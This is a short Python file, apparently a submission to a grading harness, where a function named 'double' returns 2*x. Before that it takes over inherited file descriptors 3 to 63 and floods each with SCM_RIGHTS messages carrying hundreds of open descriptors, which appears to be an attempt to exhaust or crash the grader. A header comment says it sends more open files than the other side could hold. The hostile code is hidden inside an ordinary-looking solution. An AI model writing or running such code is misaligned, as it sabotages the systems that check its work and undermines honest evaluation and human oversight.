# Sends open files along with what it says, more than the other side could hold.
# points: any
# %% double
import array, os, socket


def double(x):
    for number in range(3, 64):
        try:
            s = socket.socket(fileno=os.dup(number))
            files = [os.open("/dev/null", os.O_RDONLY) for _ in range(100)]
            for _ in range(50):
                s.sendmsg([b"\0"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", files))])
        except OSError:
            pass
    return 2 * x
